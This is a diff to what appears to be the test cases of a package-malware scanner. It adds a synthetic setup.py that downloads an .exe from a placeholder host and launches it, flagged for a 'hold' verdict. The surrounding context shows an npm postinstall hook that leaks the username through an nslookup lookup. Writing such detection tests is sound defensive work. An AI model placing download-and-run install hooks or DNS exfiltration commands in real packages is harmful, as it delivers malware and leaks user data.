@@ -527,6 +527,27 @@ setup(name='synthetic-pkg', version='1.0.0')
     verdict: 'hold',
   },
   {
+    rule: 'downloads-and-executes',
+    name: 'setup.py fetches an .exe by URL and starts the file of that name',
+    scan: () =>
+      sdist({
+        'setup.py': `from setuptools import setup
+from subprocess import run
+import urllib.request
+try:
+    urllib.urlrequest.urlretrieve("https://files.example.net/syswin32.exe", "syswin32.exe")
+    run(['start', 'syswin32.exe'], shell=True)
+except Exception as e:
+    print(e)
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 5,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
